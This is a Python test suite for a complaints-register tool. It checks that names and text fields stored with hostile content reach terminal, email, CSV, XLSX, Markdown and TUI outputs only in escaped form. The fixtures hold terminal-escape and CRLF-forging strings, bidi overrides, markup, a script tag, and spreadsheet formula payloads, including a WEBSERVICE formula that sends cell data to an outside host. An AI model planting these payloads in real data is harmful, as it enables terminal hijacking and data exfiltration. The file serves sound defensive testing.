"""Hostile text in, nothing dangerous out (issue 13 §2, the output side).

Imports and forms refuse control characters, so a database holds them only from before (legacy
data): these tests put them straight into the tables, then read every output a person sees. No
terminal escape, carriage return or line feed from a name reaches a terminal or an email, no
exported cell is a formula, and no markup in stored text is read as markup.
"""

from __future__ import annotations

import json
import sqlite3
import unicodedata
from datetime import date
from pathlib import Path

import pytest
from hypothesis import Phase, example, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from domain.config import Config
from domain.harmless import FORMULA_START, from_csv, shown, to_csv
from domain.register import COLUMNS
from store.db.database import open_database
from store.lifecycle.service import CaseService
from tests.registers import Register
from tests.test_cli import run

TODAY = date(2026, 11, 22)
OSC = "\x1b]0;owned\x07"  # retitles the terminal
CLEAR = "\x1b[2J"  # clears the screen
#: A complainant's name as a legacy database may hold it: a retitle, a screen clear, a forged line, a C1
#: control (CSI on an 8-bit terminal), a right-to-left override and Rich markup.
HOSTILE = f"Ann{OSC}Example{CLEAR}\r\nFORGED 0 overdue\x9b31m\u202e[bold]x[/]"
SHOWN = "Ann␛]0;owned␇Example␛[2J␍␊FORGED 0 overdue\\x9b31m\\u202e[bold]x[/]"
FORMULA = '=WEBSERVICE("http://x/"&A2)'


def raw_controls(text: str) -> list[str]:
    """The control characters in ``text`` a reader could be harmed by (every Cc but a line feed, which a
    file's own lines and a multi-line field's text legitimately hold), plus the bidi overrides."""
    return [c for c in text if (unicodedata.category(c) == "Cc" and c != "\n") or c in "\u202a\u202b\u202c\u202d"
            "\u202e\u2066\u2067\u2068\u2069\u2028\u2029"]


# -- the one function ------------------------------------------------------------------------------

def test_shown_makes_every_control_character_visible():
    assert shown(HOSTILE) == SHOWN
    assert shown("Zoë O'Brien-Łukasz 李 \u200c") == "Zoë O'Brien-Łukasz 李 \u200c"  # real names untouched
    assert shown("line one\r\nline two\nthree\rfour", lines=True) == "line one\nline two\nthree␍four"
    assert shown("\x00\x7f\x85\u2028") == "␀␡\\x85\\u2028"


@given(st.text())
def test_shown_never_leaves_a_raw_control_character(text):
    assert raw_controls(shown(text)) == [] and "\n" not in shown(text)
    assert raw_controls(shown(text, lines=True)) == []


@given(st.text())
def test_csv_cells_are_never_formulas_and_the_apostrophe_comes_back_off(text):
    cell = to_csv(text)
    assert not cell.startswith(FORMULA_START)
    assert from_csv(cell) == text


@pytest.mark.parametrize("text, cell", [("=1+1", "'=1+1"), ("+44 20", "'+44 20"), ("-", "'-"), ("@home", "'@home"),
                                        ("'Ohana", "'Ohana"), ("'=x", "''=x"), ("''", "'''"), ("'", "'"),
                                        ("Ann", "Ann"), ("", "")])
def test_the_apostrophe_rule(text, cell):
    assert to_csv(text) == cell and from_csv(cell) == text


# -- a legacy database ---------------------------------------------------------------------------

@pytest.fixture
def legacy_db(tmp_path, config) -> str:
    """An open complaint whose complainant, officer, team, theme, summary and history hold hostile text."""
    path = tmp_path / "legacy.db"
    db = open_database(path, config)
    svc = CaseService(db, config, today=TODAY)
    svc.log("statutory", date(2026, 11, 2), complainant="Ann Example", officer="Sam Patel", team="North",
            themes=["Delays"], summary="Late reply", child_name="Kit Example")
    db.close()
    conn = sqlite3.connect(path)
    conn.execute("UPDATE person SET name = ?", (HOSTILE,))
    conn.execute("UPDATE officer SET name = ?", (f"Sam{CLEAR}[red]Patel",))
    conn.execute("UPDATE team SET name = ?", (f"{FORMULA}{OSC}",))
    conn.execute("UPDATE theme SET name = ?", (f"=1+1{CLEAR}",))
    conn.execute('UPDATE "case" SET summary = ?, child_name = ?', ("line one\nline two\x1b[2J [bold]", "[/]"))
    conn.execute("UPDATE event SET who = ?, reason = ?", (f"root{OSC}", "because\r\nFORGED"))
    conn.commit()
    conn.close()
    return str(path)


def test_due_shows_stored_control_characters_harmlessly(legacy_db):
    result = run("due", "--db", legacy_db)
    assert result.exit_code == 0, result.output
    cut = SHOWN[:21] + "…"  # a name is cut to 22 columns, so that the line fits an email's 100
    assert result.output == (
        "2 overdue and 0 due within 2 working days, as of Sunday 22 November 2026\n"
        "\n"
        "Sam␛[2J[red]Patel\n"
        "═════════════════\n"
        "Deadlines: 2 overdue, 0 due within 2 working days\n"
        "   REFERENCE      KIND       STAGE            COMPLAINANT             DUE         DAYS\n"
        f"‼  CS-2026-00001  Statutory  Acknowledgement  {cut}  04/11/2026  12 over\n"
        f"‼  CS-2026-00001  Statutory  Stage 1          {cut}  16/11/2026  4 over\n"
        "\n"
        "‼ overdue   ! due within 2 working days   ~ relaxed timescale\n"
        "DAYS: working days over or left   [P]: under the persistent-complaints procedure\n")


def test_due_as_json_keeps_the_data_and_escapes_it(legacy_db):
    result = run("due", "--db", legacy_db, "--format", "json")
    assert raw_controls(result.output) == []
    assert json.loads(result.output)["items"][0]["complainant"] == HOSTILE


def test_a_subject_access_export_keeps_the_data_and_escapes_it(legacy_db, tmp_path):
    path = tmp_path / "sar.json"
    assert run("person", "Ann Example", "--db", legacy_db, "--export", str(path)).exit_code == 0
    assert raw_controls(path.read_text(encoding="utf-8")) == []  # json.dump left C1 and U+202E raw
    assert json.loads(path.read_text(encoding="utf-8"))["person"]["name"] == HOSTILE


def test_error_messages_show_stored_and_file_text_harmlessly(legacy_db, tmp_path):
    conn = sqlite3.connect(legacy_db)  # two people of one name: the error lists their ids, as stored
    conn.execute("INSERT INTO person (name, name_key, external_id, persistent, anonymised) "
                 "SELECT name, name_key, ?, 0, 0 FROM person",
                 (f"P2{CLEAR}",))
    conn.execute("UPDATE person SET external_id = ? WHERE external_id IS NULL", (f"P1{OSC}",))
    conn.commit()
    result = run("person", "Ann Example", "--db", legacy_db, "--export", str(tmp_path / "sar.json"))
    assert (result.exit_code, result.stderr) == (1, "Error: 2 people have that name; name one by complainant_id: "
                                                    "P1␛]0;owned␇, P2␛[2J\n")
    path = tmp_path / "bad.csv"
    path.write_text(f"kind,received,Notes{CLEAR}\r\nstatutory,02/05/2024,x\n", encoding="utf-8")
    result = run("import", str(path), "--db", legacy_db)
    assert result.exit_code == 1 and raw_controls(result.stderr) == []
    assert result.stderr.splitlines()[1] == ("  row 1, column 3: holds a control character (U+001B), which cannot "
                                             "be stored")  # refused at the door, named by its code, never shown


def test_history_shows_each_event_on_one_line(legacy_db):
    lines = run("history", "CS-2026-00001", "--db", legacy_db).output.splitlines()
    assert raw_controls("\n".join(lines)) == []
    assert lines == ["CS-2026-00001: 1 event", lines[1]]
    assert "  root␛]0;owned␇  logged" in lines[1] and lines[1].endswith("(reason: because␍␊FORGED)")


def test_the_register_exports_show_control_characters_harmlessly(legacy_db, tmp_path):
    out = run("export", "--register", "--db", legacy_db)
    assert out.exit_code == 0 and raw_controls(out.stdout) == []
    book = tmp_path / "register.xlsx"
    result = run("export", "--register", "--db", legacy_db, "--output", str(book))
    assert result.exit_code == 0, result.output  # openpyxl refused ESC: IllegalCharacterError
    sheet = load_workbook(book).active
    row = dict(zip(COLUMNS, (c.value for c in sheet[2]), strict=True))
    assert row["complainant"] == SHOWN
    assert row["summary"] == "line one\nline two␛[2J [bold]"  # a multi-line field keeps its lines
    assert row["team"] == f"{FORMULA}␛]0;owned␇" and sheet[2][COLUMNS_INDEX["team"]].quotePrefix
    assert all(c.data_type != "f" for line in sheet.iter_rows() for c in line)


# -- formulas --------------------------------------------------------------------------------------

HEADER = "reference,kind,received,complainant_id,complainant,team,themes,summary"
NAMES = [FORMULA, "+44 20 7946 0000", "-Ann", "@Ann", "'=starts with an apostrophe", "'Ohana", "''", "Ann O'Brien",
         "#N/A"]


@pytest.fixture
def formula_register(tmp_path) -> Path:
    """A register whose names, team, theme and summary a spreadsheet would take for formulas."""
    lines = [HEADER]
    for n, name in enumerate(NAMES, start=1):
        cells = [f"CS-{n}", "statutory", "02/05/2024", f"P{n}", to_csv(name), "=SUM(A1)", "=1+1;-Delays", "+summary"]
        lines.append(",".join('"' + c.replace('"', '""') + '"' for c in cells))
    path = tmp_path / "hostile.csv"
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path


def test_a_text_cell_marked_with_an_apostrophe_is_imported_without_it(tmp_path, config):
    path = tmp_path / "marked.csv"
    path.write_text("kind,received,complainant,summary\n"
                    "statutory,02/05/2024,'=marked by hand,'Ohana\n"
                    "statutory,02/05/2024,' '@x,''-y\n", encoding="utf-8")
    db = str(tmp_path / "c.db")
    result = run("import", str(path), "--db", db)
    assert result.exit_code == 0, result.output
    assert sqlite3.connect(db).execute('SELECT p.name, c.summary FROM "case" c JOIN person p ON p.id = c.person_id '
                                       "ORDER BY c.id").fetchall() == [("=marked by hand", "'Ohana"),
                                                                       ("' '@x", "'-y")]


def test_no_register_export_holds_a_formula_and_names_survive_the_round_trip(formula_register, tmp_path):
    """Import a file of formula-like names; export it as CSV and XLSX; import each export into an empty
    database: every name comes back exactly, and no exported cell is a formula."""
    first = str(tmp_path / "first.db")
    assert run("import", str(formula_register), "--db", first).exit_code == 0
    exported_csv, exported_xlsx = tmp_path / "out.csv", tmp_path / "out.xlsx"
    assert run("export", "--register", "--db", first, "--output", str(exported_csv)).exit_code == 0
    assert run("export", "--register", "--db", first, "--output", str(exported_xlsx)).exit_code == 0
    import csv

    with open(exported_csv, newline="", encoding="utf-8") as f:
        rows = list(csv.reader(f))
    cells = [c for row in rows[1:] for c in row]
    assert not any(c.startswith(FORMULA_START) for c in cells)
    assert [r[COLUMNS_INDEX["complainant"]] for r in rows[1:]] == [to_csv(n) for n in NAMES]
    assert rows[1][COLUMNS_INDEX["themes"]] == "'-Delays;=1+1"
    stdout = run("export", "--register", "--db", first).stdout
    assert stdout.replace("\r\n", "\n") == exported_csv.read_text(encoding="utf-8").replace("\r\n", "\n")
    book = load_workbook(exported_xlsx)
    for line in book.active.iter_rows(min_row=2):
        for cell in line:
            assert cell.data_type not in ("f", "e"), cell.coordinate  # never a formula, nor an error code
            if isinstance(cell.value, str) and cell.value.startswith(FORMULA_START):
                assert cell.quotePrefix, cell.coordinate  # Excel keeps it text if someone edits it
    for exported in (exported_csv, exported_xlsx):
        again = str(tmp_path / f"again-{exported.suffix[1:]}.db")
        result = run("import", str(exported), "--db", again)
        assert result.exit_code == 0, result.output
        conn = sqlite3.connect(again)
        assert [r[0] for r in conn.execute("SELECT p.name FROM \"case\" c JOIN person p ON p.id = c.person_id "
                                           "ORDER BY c.id")] == NAMES
        assert conn.execute("SELECT DISTINCT summary FROM \"case\"").fetchall() == [("+summary",)]
        assert sorted(r[0] for r in conn.execute("SELECT name FROM theme")) == ["-Delays", "=1+1"]
        assert conn.execute("SELECT name FROM team").fetchall() == [("=SUM(A1)",)]


COLUMNS_INDEX = {c: i for i, c in enumerate(COLUMNS)}


@pytest.fixture
def hostile_figures_db(tmp_path, config) -> str:
    """Complaints in 2024/25 whose themes and service areas are formulas, markup, HTML and escapes."""
    path = tmp_path / "figures.db"
    db = open_database(path, config)
    reg = Register(db)
    reg.complaint(date(2024, 5, 1), 8, themes=("=1+1", f"<script>x</script>|{CLEAR}"), area="@area")
    reg.complaint(date(2024, 6, 3), 14, themes=("[bold]Delays[/]", "*a*_b_`c`[l](u)\\"), area=f"+area{OSC}")
    reg.save()
    db.close()
    return str(path)


def test_figures_exports_hold_no_formula_and_no_raw_control(hostile_figures_db, tmp_path):
    book = tmp_path / "figures.xlsx"
    assert run("export", "--db", hostile_figures_db, "--year", "2024", "--format", "xlsx",
               "--output", str(book)).exit_code == 0
    wb = load_workbook(book)
    labels = [c.value for ws in wb.worksheets for line in ws.iter_rows() for c in line if isinstance(c.value, str)]
    assert "=1+1" in labels and "@area" in labels and "+area␛]0;owned␇" in labels
    assert all(c.data_type != "f" for ws in wb.worksheets for line in ws.iter_rows() for c in line)
    assert raw_controls("".join(labels)) == []
    folder = tmp_path / "csv"
    assert run("export", "--db", hostile_figures_db, "--year", "2024", "--format", "csv",
               "--output", str(folder)).exit_code == 0
    themes = (folder / "2024-themes.csv").read_text(encoding="utf-8")
    assert "'=1+1," in themes and "\n=" not in themes and raw_controls(themes) == []
    assert "'@area," in (folder / "2024-by_service_area.csv").read_text(encoding="utf-8")
    out = run("export", "--db", hostile_figures_db, "--year", "2024").stdout
    assert raw_controls(out) == []
    assert any(r[0] == f"+area{OSC}" for t in json.loads(out)["tables"] for r in t["rows"])  # the same data


def test_summary_markdown_escapes_html_and_table_breakers(hostile_figures_db):
    md = run("summary", "--db", hostile_figures_db, "--year", "2024", "--format", "markdown").stdout
    assert "<script>" not in md and "| &lt;script&gt;x&lt;/script&gt;\\|␛\\[2J |" in md
    assert "| \\*a\\*\\_b\\_\\`c\\`\\[l\\](u)\\\\ |" in md
    assert raw_controls(md) == []


@pytest.mark.parametrize("fmt", ["rich", "text", "html"])
def test_summary_draws_markup_in_names_as_written(hostile_figures_db, fmt):
    out = run("summary", "--db", hostile_figures_db, "--year", "2024", "--format", fmt).stdout
    assert ("[bold]Delays[/]" in out) and raw_controls(out) == []


# -- the TUI ---------------------------------------------------------------------------------------

TABS = ("tab-overview", "tab-stages", "tab-timeline", "tab-learning", "tab-people")


async def screens(path: str, tabs: tuple[str, ...] = TABS,
                  settings_tabs: tuple[str, ...] = ("tab-themes", "tab-areas", "tab-people")) -> dict[str, str]:
    """Screenshots (SVG) of the caseload, the first case (its overview, then ``tabs``), its complainant's
    screen and the settings' lists (``settings_tabs``)."""
    from textual.widgets import TabbedContent

    from store.db.location import resolve_url
    from tests.tui_helpers import settle
    from tui.app import create_app

    app = create_app(resolve_url(path), config=Config(user="tester"), today=TODAY)
    shots = {}
    async with app.run_test(size=(160, 40)) as pilot:
        await settle(app, pilot)
        shots["caseload"] = app.export_screenshot()
        await pilot.press("enter")
        await settle(app, pilot)
        shots["case"] = app.export_screenshot()
        for tab in tabs:
            app.screen.query_one(TabbedContent).active = tab
            await settle(app, pilot)
            shots[tab] = app.export_screenshot()
        await pilot.press("c")
        await settle(app, pilot)
        shots["person"] = app.export_screenshot()
        assert type(app.screen).__name__ == "PersonScreen"
        await pilot.press("escape", "escape", "comma")
        await settle(app, pilot)
        for tab in settings_tabs:
            app.screen.query_one(TabbedContent).active = tab
            await settle(app, pilot)
            shots[f"settings {tab}"] = app.export_screenshot()
    assert app.return_code in (None, 0)
    return shots


async def test_the_tui_draws_stored_text_harmlessly_and_never_reads_it_as_markup(legacy_db):
    shots = await screens(legacy_db)
    for where, svg in shots.items():
        assert raw_controls(svg) == [], where
    assert "Ann␛]0;owned␇Example␛[2J␍␊" in shots["caseload"]  # cut to its column, drawn harmlessly
    assert "[bold]x[/]" in shots["tab-people"]  # drawn as written, not as bold
    assert "[red]Patel" in shots["tab-overview"] and "line&#160;two␛[2J&#160;[bold]" in shots["tab-overview"]
    assert "[/]" in shots["tab-overview"]  # the child's name: an unmatched closing tag no longer fails the screen
    assert "(reason:&#160;because" in shots["tab-timeline"]  # a reason is multi-line: its lines stay in its cell
    assert "root␛]0;owned␇" in shots["tab-timeline"] and "␛]0;owned␇" in shots["person"]
    assert "=1+1␛[2J" in shots["settings tab-themes"] and "Sam␛[2J[red]Patel" in shots["settings tab-people"]


async def test_markup_typed_in_the_filter_is_text(legacy_db):
    """'[/' typed in the filter closed the app (MarkupError drawing the status line)."""
    from textual import events

    from store.db.location import resolve_url
    from tests.tui_helpers import settle
    from tui.app import create_app

    app = create_app(resolve_url(legacy_db), config=Config(user="tester"), today=TODAY)
    async with app.run_test(size=(120, 40)) as pilot:
        await settle(app, pilot)
        await pilot.press("slash", "[")
        app.query_one("#filter").post_message(events.Paste("/"))  # pasted: "/" pressed there is the search key's
        await settle(app, pilot)
        assert "matching “[/”" in str(app.query_one("#status").render())
        await pilot.press("escape", "q")
    assert app.return_code == 0


async def test_markup_typed_in_a_form_field_is_text(legacy_db):
    """'[/]' typed in a date field closed the app (MarkupError drawing the message that quotes it)."""
    from store.db.location import resolve_url
    from tests.tui_helpers import settle
    from tui.app import create_app
    from tui.form import FormScreen

    app = create_app(resolve_url(legacy_db), config=Config(user="tester"), today=TODAY)
    async with app.run_test(size=(120, 40)) as pilot:
        await settle(app, pilot)
        await pilot.press("n", *"statutory", "tab", "end", "ctrl+u", "[", "/", "]")
        await settle(app, pilot)
        assert isinstance(app.screen, FormScreen)
        assert "'[/]' is not a date" in str(app.screen.query_one("#error-received").render())
        await pilot.press("escape", "q")
    assert app.return_code == 0


def test_a_legacy_caseload_snapshot(snap_compare, legacy_db):
    """What an officer sees of hostile names: every control character as a visible symbol."""
    from store.db.location import resolve_url
    from tests.tui_helpers import settle
    from tui.app import create_app

    app = create_app(resolve_url(legacy_db), config=Config(user="tester"), today=TODAY)

    async def wait(pilot):
        await settle(app, pilot)

    assert snap_compare(app, terminal_size=(160, 20), run_before=wait)


# -- the round trip (issue 13's "done when") -------------------------------------------------------

PIECES = ["=", "+", "-", "@", "'", "\t", "\r", "\n", "\r\n", "\x1b", OSC, CLEAR, "\x07", "\x00", "\x7f", "\x9b",
          "\u202e", "\u2028", "[bold]", "[/]", "|", "<b>", "&amp;", "\\", '"', ",", ";", " ", "Ann", "O'Brien", "Zoë",
          'WEBSERVICE("http://x/"&A2)']
hostile_names = st.lists(st.one_of(st.sampled_from(PIECES), st.text(max_size=4)), min_size=1, max_size=6).map(
    "".join)


def importable(name: str) -> str:
    """``name`` as an import accepts it: no control characters (refused at the door), no surrounding space."""
    kept = "".join(c for c in name if unicodedata.category(c) not in ("Cc", "Cf", "Cs", "Zl", "Zp")).strip()
    return kept or "x"


@pytest.fixture(scope="module")
def empty_db(tmp_path_factory) -> Path:
    path = tmp_path_factory.mktemp("hostile") / "empty.db"
    open_database(path, Config(user="tester")).close()
    return path


def _names(db: Path) -> list[tuple[str, str, str]]:
    return sqlite3.connect(db).execute(
        'SELECT p.name, t.name, c.summary FROM "case" c JOIN person p ON p.id = c.person_id '
        "JOIN team t ON t.id = c.team_id ORDER BY c.reference").fetchall()


# An example takes seconds (a TUI among them): a few, one of them every hostile piece at once, and a failure
# reported as found, not shrunk for minutes.
@settings(max_examples=3, deadline=None, phases=(Phase.explicit, Phase.reuse, Phase.generate))
@example(names=["".join(PIECES), "".join(reversed(PIECES)), "=" + OSC + "\r\n"])
@given(names=st.lists(hostile_names, min_size=3, max_size=3))
def test_hostile_names_round_trip_and_no_output_holds_a_formula_or_a_raw_control(empty_db, names):
    """Formula-like names go through import, both register exports and import again unchanged; then, put
    straight into the database with their control characters (legacy data), they reach no output raw:
    `due` (text and JSON), history, the register and figures exports, the summary and the TUI."""
    import asyncio
    import csv
    import io
    import shutil
    import tempfile

    from openpyxl import Workbook

    from store.register.files import text_cell

    with tempfile.TemporaryDirectory() as folder:
        tmp = Path(folder)
        db, csv_again, xlsx_again = tmp / "a.db", tmp / "b.db", tmp / "c.db"
        for copy in (db, csv_again, xlsx_again):
            shutil.copy(empty_db, copy)
        clean = [importable(n) for n in names]
        book = Workbook()  # the first file as a user's spreadsheet: every cell text, nothing read as a formula
        sheet = book.active
        sheet.append(["reference", "kind", "received", "complainant_id", "complainant", "team", "service_area",
                      "themes", "summary"])
        for n, name in enumerate(clean, start=1):
            sheet.append([f"CS-{n}", "statutory", "02/06/2025", f"P{n}", text_cell(sheet, name),
                          text_cell(sheet, name), text_cell(sheet, name), text_cell(sheet, "=1+1;-Delays"),
                          text_cell(sheet, name)])
        book.save(tmp / "in.xlsx")
        assert run("import", str(tmp / "in.xlsx"), "--db", str(db)).exit_code == 0
        expected = [(name, name, name) for name in clean]
        assert _names(db) == expected

        def formulas(path: Path) -> list[str]:
            if path.suffix == ".csv":
                cells = [c for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8"))) for c in row]
                return [c for c in cells if c.startswith(FORMULA_START)]
            return [c.coordinate for ws in load_workbook(path).worksheets for line in ws.iter_rows() for c in line
                    if c.data_type == "f"]

        for suffix, again in ((".csv", csv_again), (".xlsx", xlsx_again)):
            out = tmp / f"out{suffix}"
            assert run("export", "--register", "--db", str(db), "--output", str(out)).exit_code == 0
            assert formulas(out) == []
            result = run("import", str(out), "--db", str(again))
            assert result.exit_code == 0, result.output
            assert _names(again) == expected

        conn = sqlite3.connect(db)  # now the same names as a legacy database holds them
        for n, name in enumerate(names, start=1):
            conn.execute("UPDATE person SET name = ? WHERE external_id = ?", (name, f"P{n}"))
            conn.execute("UPDATE team SET name = ? WHERE id = (SELECT team_id FROM \"case\" WHERE reference = ?)",
                         (f"{name} team {n}", f"CS-{n}"))
            conn.execute("UPDATE service_area SET name = ? WHERE id = (SELECT service_area_id FROM \"case\" "
                         "WHERE reference = ?)", (f"{name} area {n}", f"CS-{n}"))
            conn.execute("INSERT INTO officer (name, active) VALUES (?, 1)", (f"{name} officer {n}",))
            conn.execute('UPDATE "case" SET summary = ?, officer_id = last_insert_rowid() WHERE reference = ?',
                         (name, f"CS-{n}"))
        conn.execute("UPDATE theme SET name = ? || ' theme ' || id", (names[0],))
        conn.execute("UPDATE event SET who = ?, reason = ?", (names[1], names[2]))
        conn.commit()
        conn.close()

        outputs = {}
        due = run("due", "--db", str(db))
        items = json.loads(run("due", "--db", str(db), "--format", "json").stdout)["items"]
        assert len(items) == 6 and {i["complainant"] for i in items} == set(names)  # JSON keeps the data
        # (six: each case owes its acknowledgement, as an imported case does, and its Stage 1 response)
        officers = len({i["officer"] for i in items})  # the digest's head and legend, a heading and table per officer
        assert len(due.stdout.splitlines()) == 4 + 5 * officers + len(items)  # no forged line
        outputs["due"] = due.stdout
        outputs["due json"] = json.dumps(items)
        for n in range(1, 4):
            history = run("history", f"CS-{n}", "--db", str(db)).stdout
            assert len(history.splitlines()) == 1 + int(history.split(": ")[1].split(" ")[0])
            outputs[f"history {n}"] = history
        outputs["register"] = run("export", "--register", "--db", str(db)).stdout
        assert not any(c.startswith(FORMULA_START) for row in csv.reader(io.StringIO(outputs["register"]))
                       for c in row)
        for suffix in (".csv", ".xlsx"):
            out = tmp / f"legacy{suffix}"
            assert run("export", "--register", "--db", str(db), "--output", str(out)).exit_code == 0
            assert formulas(out) == []
            outputs[f"register{suffix}"] = out.read_text(encoding="utf-8") if suffix == ".csv" else "".join(
                str(c.value) for line in load_workbook(out).active.iter_rows() for c in line)
        year = ("--year", "2025")
        for fmt in ("rich", "text", "markdown", "html"):
            outputs[f"summary {fmt}"] = run("summary", "--db", str(db), *year, "--format", fmt).stdout
        outputs["figures json"] = run("export", "--db", str(db), *year).stdout
        assert run("export", "--db", str(db), *year, "--format", "csv", "--output", str(tmp / "f")).exit_code == 0
        for table in sorted((tmp / "f").iterdir()):
            assert formulas(table) == []
            outputs[table.name] = table.read_text(encoding="utf-8")
        figures = tmp / "figures.xlsx"
        assert run("export", "--db", str(db), *year, "--format", "xlsx", "--output", str(figures)).exit_code == 0
        assert formulas(figures) == []
        outputs["figures.xlsx"] = "".join(str(c.value) for ws in load_workbook(figures).worksheets
                                          for line in ws.iter_rows() for c in line)
        assert run("person", "P1", "--db", str(db), "--export", str(tmp / "sar.json")).exit_code == 0
        outputs["person"] = (tmp / "sar.json").read_text(encoding="utf-8")
        assert json.loads(outputs["person"])["person"].get("name", "") == names[0]  # an empty field is left out
        outputs.update(asyncio.run(screens(str(db), tabs=("tab-timeline", "tab-people"), settings_tabs=())))
        for where, text in outputs.items():
            assert raw_controls(text) == [], where


async def test_a_form_filled_in_from_an_email_shows_each_warning_on_a_line_of_its_own(tmp_path):
    """An email lacking its sender and date: the form from N says both, a line each (they were joined by a visible
    "␊", the newline made harmless instead of kept)."""
    from textual.widgets import Input, Static

    from store.db.database import open_database
    from tests.tui_helpers import settle
    from tui.app import create_app
    from tui.form import FormScreen

    config = Config(user="tester")
    open_database(tmp_path / "w.db", config).close()
    source = tmp_path / "bare.eml"
    source.write_bytes(b"Subject: Missed visit\r\nX-Saved-By: Outlook Web\r\n\r\nNobody came on Tuesday.\r\n")
    app = create_app(f"sqlite:///{tmp_path / 'w.db'}", config=config, today=date(2026, 11, 22))
    async with app.run_test(size=(120, 40)) as pilot:
        await settle(app, pilot)
        await pilot.press("N")
        await settle(app, pilot)
        app.screen.query_one("#field-path", Input).value = str(source)
        await pilot.press("ctrl+s")
        await settle(app, pilot)
        form = app.screen
        assert isinstance(form, FormScreen) and form.action.id == "log"
        shown = str(form.query_one("#form-warning", Static).render())
        assert "␊" not in shown and len([line for line in shown.splitlines() if line.strip()]) >= 2, shown
